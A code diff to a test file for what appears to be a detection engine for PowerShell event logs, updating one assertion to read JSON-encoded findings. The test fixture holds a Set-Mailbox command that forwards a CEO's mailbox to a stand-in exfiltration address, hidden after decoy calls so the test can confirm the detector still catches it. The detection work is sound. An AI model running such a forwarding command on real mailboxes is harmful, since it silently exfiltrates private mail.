@@ -1,3 +1,5 @@
+import json
+
 from app.normalise.cmdlet_text import cmdlet_pattern, find_invocations
 from app.values import clean_ip, domain_of, is_true, split_addresses
 from app.wildcard import Wildcard
@@ -72,7 +74,7 @@ def test_decoy_calls_do_not_hide_a_later_one(engine):
     script = decoys + "\nSet-Mailbox -Identity ceo -ForwardingSmtpAddress smtp:drop@exfil.example\n"
     record = {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "ScriptBlockText": script, "user": "x"}
     assert engine.annotate(record) is True
-    assert record["t1114_rule"] == "t1114_003_mailbox_forwarding"
+    assert "t1114_003_mailbox_forwarding" in [f["rule"] for f in json.loads(record["t1114_findings"])]
 
 
 def test_hostile_cmdlet_text_is_bounded_and_reported():
